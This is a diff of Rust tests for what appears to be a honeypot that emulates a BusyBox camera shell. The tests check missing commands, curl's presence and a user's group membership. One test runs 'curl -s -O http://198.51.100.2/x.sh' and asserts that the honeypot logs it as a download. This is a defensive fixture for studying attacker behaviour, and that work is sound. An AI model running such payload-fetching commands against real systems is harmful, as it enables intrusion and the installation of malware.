@@ -215,7 +215,7 @@ fn busybox_lists_what_the_tree_has_and_refuses_the_rest() {
         "perl -e 1",
         "sudo id",
         "systemctl status",
-        "curl -O http://198.51.100.2/x",
+        "bash -c id",
         "getconf LONG_BIT",
     ] {
         let name = missing.split(' ').next().unwrap();
@@ -224,7 +224,36 @@ fn busybox_lists_what_the_tree_has_and_refuses_the_rest() {
     assert_eq!(
         run(&mut sh, "/usr/bin/perl -e 1"),
         "-sh: /usr/bin/perl: not found\n"
+    ); // The vendor's curl is a binary of its own, not an applet.
+    assert!(run(&mut sh, "ls -l /usr/bin/curl").starts_with("-rwxr-xr-x"));
+    assert_eq!(run(&mut sh, "busybox curl"), "curl: applet not found\n");
+    let out = sh.exec("curl -s -O http://198.51.100.2/x.sh");
+    assert!(
+        out.actions
+            .iter()
+            .any(|a| matches!(a, Action::Download { tool: "curl", .. }))
     );
+    // A user of the camera has no sudo group.
+    let world = World::new(Persona::busybox_device(
+        "cam-1",
+        vec!["admin".into()],
+        persona::Arch::Arm,
+    ));
+    let limits = Limits {
+        max_line_bytes: 4096,
+        max_commands: 10,
+    };
+    let origin = Origin {
+        client_ip: "203.0.113.9".into(),
+        server_ip: "192.168.1.108".into(),
+        now: 1_732_871_331,
+    };
+    let mut admin = Shell::new(world, "admin", limits, origin, false);
+    assert_eq!(
+        run(&mut admin, "id; groups"),
+        "uid=1000(admin) gid=1000(admin) groups=1000(admin)\nadmin\n"
+    );
+    assert_eq!(admin.prompt(), "~ $ ");
 }
 
 #[test]
